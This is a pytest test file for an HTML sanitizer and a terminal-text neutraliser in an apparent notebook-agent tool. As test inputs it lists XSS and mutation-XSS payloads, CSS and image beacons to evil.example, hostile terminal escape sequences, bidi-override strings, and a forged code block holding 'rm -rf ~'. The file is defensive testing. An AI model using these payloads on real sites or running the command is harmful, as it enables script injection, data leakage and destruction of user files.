"""The sanitizer and the text neutraliser (`nbagent.safety.sanitize`), piece by piece.

Each attack is checked with a real HTML parser (`tests/page_checks.active`): the sanitizer's output does
nothing; the same input unsanitized does. Each has a control: what a legitimate repr needs still renders.
"""

from __future__ import annotations

import pandas as pd
import pytest

from nbagent.safety import hidden, sanitize
from nbagent.safety.sanitize import clean_stylesheet, sanitize_html, terminal_safe, visible

from ..page_checks import active

ATTACKS = {
    "script": "<script>alert(1)</script><p>x</p>",
    "event handler": '<img src="data:image/png;base64,AAAA" onerror="alert(1)"><b onmouseover=alert(1)>b</b>',
    "javascript link": '<a href="javascript:alert(1)">x</a><a href=" jav&#x09;ascript:alert(1)">y</a>',
    "data html link": '<a href="data:text/html;base64,PHNjcmlwdD4=">x</a>',
    "svg with script": '<svg onload="alert(1)"><script>alert(1)</script><a xlink:href="javascript:x">y</a></svg>',
    "svg image": '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
    "remote image": '<img src="https://evil.example/pixel.png?who=me"><img srcset="https://evil.example/a.png 2x">',
    "relative image": '<img src="/api/contents?x=1">',
    "css url": '<p style="background-image: url(https://evil.example/x)">x</p>',
    "css url in a sheet": "<style>td { background: url(//evil.example/y) }</style><table><tr><td>x</td></tr></table>",
    "css import": "<style>@import url(https://evil.example/x.css); td{color:red}</style><p>x</p>",
    "css escape": "<style>td{background:u\\72l(https://evil.example/)}</style><p>x</p>",
    "css overlay": '<div style="position:fixed;top:0;left:0;z-index:9999">Approve</div>',
    "css expression": '<p style="width: expression(alert(1))">x</p>',
    "meta refresh": '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    "base href": '<base href="https://evil.example/"><a href="x">x</a>',
    "link stylesheet": '<link rel="stylesheet" href="https://evil.example/x.css">',
    "form": '<form action="https://evil.example/"><input name="q"><button formaction="https://e/">go</button></form>',
    "iframe": '<iframe src="https://evil.example/"></iframe><iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "object and embed": '<object data="https://evil.example/x.swf"></object><embed src="https://evil.example/x">',
    "noscript mutation": '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    "math mutation": '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
    "style mutation": '<svg><style><img src=x onerror=alert(1)></style></svg>',
    "template": '<template><img src=x onerror=alert(1)></template>',
    "table background": '<table background="https://evil.example/x"><tr><td background="https://e/y">x</td></tr></table>',
    "video poster": '<video poster="https://evil.example/p.png"></video><audio src="https://evil.example/a">',
}


@pytest.mark.parametrize("name", sorted(ATTACKS))
def test_an_attack_does_nothing_once_sanitized(name):
    markup = ATTACKS[name]
    assert active(markup), f"the attack {name!r} must be active unsanitized, or it tests nothing"
    out = sanitize_html(markup)
    assert active(out) == [], (name, out)


def test_the_page_checker_itself_tells_active_from_inert():
    assert active('<img src="https://e/x">') and active("<p onclick=x>") and active("<style>a{b:url(x)}</style>")
    assert active("<p>&lt;script&gt;alert(1)&lt;/script&gt;</p>") == []
    assert active('<img src="data:image/png;base64,AAAA"><a href="https://ok.example/">ok</a>') == []


def test_a_dataframe_keeps_its_table_and_escapes_its_strings():
    df = pd.DataFrame({"name": ["<script>alert(1)</script>", "<img src=x onerror=alert(1)>"], "n": [1, 2]})
    out = sanitize_html(df._repr_html_())
    assert active(out) == []
    assert out.count("<tr") == 3 and "<th>name</th>" in out and "<td>1</td>" in out
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in out  # the data shown as text, not dropped
    assert 'class="dataframe"' in out and "vertical-align: middle" in out  # its own styling, scoped


def test_a_styler_over_untrusted_strings_is_inert_and_keeps_its_colours():
    df = pd.DataFrame({"a": [1, 5], "b": ['<img src=x onerror="alert(1)">', "<script>alert(2)</script>"]})
    styler = df.style.highlight_max(subset=["a"], color="yellow").set_table_styles(
        [{"selector": "th", "props": [("color", "navy"), ("position", "fixed")]}])
    raw = styler._repr_html_()
    assert active(raw), "a Styler does not escape its cells: unsanitized it is an attack"
    out = sanitize_html(raw)
    assert active(out) == []
    assert "background-color: yellow" in out and "color: navy" in out and "position" not in out
    scope = out.split('class="nba-safe ', 1)[1].split('"', 1)[0]
    # every rule is confined to the fragment's wrapper, and ids are prefixed on both sides
    sheet = out.split("<style>", 1)[1].split("</style>", 1)[0]
    assert all(line.startswith(f".{scope} ") for line in sheet.splitlines())
    assert "#nba-u-T_" in sheet and 'id="nba-u-T_' in out


def test_links_still_work_and_open_without_a_referrer():
    out = sanitize_html('<a href="https://docs.example/page?q=1">docs</a> <a href="mailto:a@b.example">mail</a>'
                        ' <a href="#nbagent-cell=abc" class="nba-cell-link">cell abc</a>')
    assert 'href="https://docs.example/page?q=1"' in out and 'href="mailto:a@b.example"' in out
    assert 'href="#nbagent-cell=abc"' in out and 'class="nba-cell-link"' in out
    assert 'rel="noopener noreferrer nofollow"' in out


def test_inline_images_stay_and_the_page_s_own_classes_and_ids_cannot_be_borrowed():
    out = sanitize_html('<img src="data:image/png;base64,iVBORw0KGgo=" alt="plot">'
                        '<div id="main" class="jp-Dialog nba-ask keep">x</div>')
    assert 'src="data:image/png;base64,iVBORw0KGgo="' in out and 'alt="plot"' in out
    assert 'class="keep"' in out and "jp-Dialog" not in out and "nba-ask" not in out
    assert 'id="nba-u-main"' in out


def test_safe_css_stays_and_unsafe_css_goes():
    css = ("td { color: red; text-align: right; border: 1px solid #ccc } th { position: absolute; color: blue }"
           " @media print { td { color: black } } .bar { background: linear-gradient(90deg, red 50%, transparent 50%) }"
           " p { margin-left: -500px; padding: 2px } q { background: var(--x) } @font-face { src: url(x) }")
    out = clean_stylesheet(css, "s")
    assert ".s td { color: red; text-align: right; border: 1px solid #ccc }" in out
    assert ".s th { color: blue }" in out and "linear-gradient(90deg, red 50%, transparent 50%)" in out
    assert ".s p { padding: 2px }" in out
    assert "position" not in out and "@" not in out and "black" not in out and "var(" not in out and "url" not in out


def test_sanitizing_is_stable_so_a_saved_notebook_does_not_change_on_a_re_render():
    styler = pd.DataFrame({"a": [1, 2]}).style.highlight_max(color="red")
    raw = styler._repr_html_()
    assert sanitize_html(raw) == sanitize_html(raw)


def test_inline_pieces_are_not_wrapped_and_keep_no_style_sheet():
    out = sanitize_html('<a href="https://x.example/">x</a><style>a{color:red}</style>', wrap=False)
    assert out.startswith("<a ") and "<style" not in out and "nba-safe" not in out


# --------------------------------------------------------------------------------------------------
# Text
# --------------------------------------------------------------------------------------------------
def test_visible_shows_bidi_invisible_and_control_characters_and_warns():
    code = 'access = "user\u202e \u2066// admin\u2069\u2066"\u200b\x1b[2J'
    shown, warnings = visible(code)
    assert "\u202e" not in shown and "\u200b" not in shown and "\x1b" not in shown
    assert "⟨U+202E RIGHT-TO-LEFT OVERRIDE⟩" in shown and "⟨U+200B ZERO WIDTH SPACE⟩" in shown
    assert "⟨U+001B ESC⟩[2J" in shown  # shown, not removed: every character that will run is there to see
    kinds = " ".join(warnings)
    assert "bidi" in kinds and "invisible" in kinds and "terminal escape" in kinds and len(warnings) == 3


def test_visible_leaves_ordinary_text_alone_and_prose_keeps_its_emoji():
    assert visible("print('héllo')\n\tx = 1 ✓") == ("print('héllo')\n\tx = 1 ✓", [])
    assert visible("a\r\nb") == ("a\r\nb", [])  # a Windows line end hides nothing
    assert visible("paid\rfree")[0] == "paid⟨U+000D CR⟩free"  # a lone carriage return does (in a terminal)
    family = "👨\u200d👩\u200d👧 ❤\ufe0f"
    assert visible(family, prose=True) == (family, [])
    assert visible(family)[1], "approved text shows the joiner too"


def test_terminal_safe_removes_escape_sequences_and_shows_other_controls():
    text = ("\x1b[31mred\x1b[0m \x1b]0;pwned title\x07 \x1b]8;;https://evil.example/\x1b\\link\x1b]8;;\x1b\\"
            " \x1bPdcs\x1b\\ \x9b2J over\rwrite \x00\x07 \u202egnp.exe")
    out = terminal_safe(text)
    assert not any(ord(c) < 32 and c not in "\n\t" or 0x7f <= ord(c) <= 0x9f for c in out), repr(out)
    assert "red" in out and "link" in out and "pwned title" not in out and "evil.example" not in out
    assert "⟨U+202E⟩" in out and "⟨U+0000⟩" in out and "over\nwrite" in out
    assert terminal_safe("plain\ttext\n") == "plain\ttext\n"


def test_turning_the_neutraliser_off_lets_the_escapes_through(monkeypatch):
    monkeypatch.setattr(hidden, "_HIDDEN", __import__("re").compile(r"(?!)"))
    assert "\x1b]0;" in terminal_safe("\x1b]0;title\x07")
    assert visible("a\u202eb") == ("a\u202eb", [])


# -- the marker of the model's code blocks: the model's Markdown keeps it, nothing else can claim it ---------
FORGED = ('<div class="nba-md"><pre class="nba-code-block nba-lang-bash other"><code>rm -rf ~</code></pre>'
          '<div class="nba-code-block"><span class="nba-lang-python">x</span></div>'
          '<pre class="NBA-CODE-BLOCK nba-lang-"><code>y</code></pre></div>')


@pytest.mark.parametrize("wrap", [True, False])
def test_no_html_but_the_models_markdown_can_claim_the_code_block_marker(wrap):
    shown = sanitize_html(FORGED, wrap=wrap)
    assert "nba-code-block" not in shown.lower() and "nba-lang" not in shown and "nba-md" not in shown
    assert '<pre class="other"><code>rm -rf ~</code></pre>' in shown  # the rest stays


def test_the_models_markdown_keeps_the_marker_on_a_pre_and_nowhere_else():
    shown = sanitize_html(FORGED, wrap=False, code_blocks=True)
    assert '<pre class="nba-code-block nba-lang-bash other"><code>rm -rf ~</code></pre>' in shown
    assert '<div><span>x</span></div>' in shown  # not on a div or a span
    assert '<pre><code>y</code></pre>' in shown  # only the exact spellings
    assert "nba-md" not in shown  # the container is render's own, never the sanitizer's to keep
    long = "nba-lang-" + "x" * 33
    assert long not in sanitize_html(f'<pre class="{long}"></pre>', wrap=False, code_blocks=True)


def test_the_cache_tells_the_two_kinds_apart():
    markup = '<pre class="nba-code-block"><code>z</code></pre>'
    assert "nba-code-block" in sanitize_html(markup, wrap=False, code_blocks=True)
    assert "nba-code-block" not in sanitize_html(markup, wrap=False)
    assert "nba-code-block" in sanitize_html(markup, wrap=False, code_blocks=True)
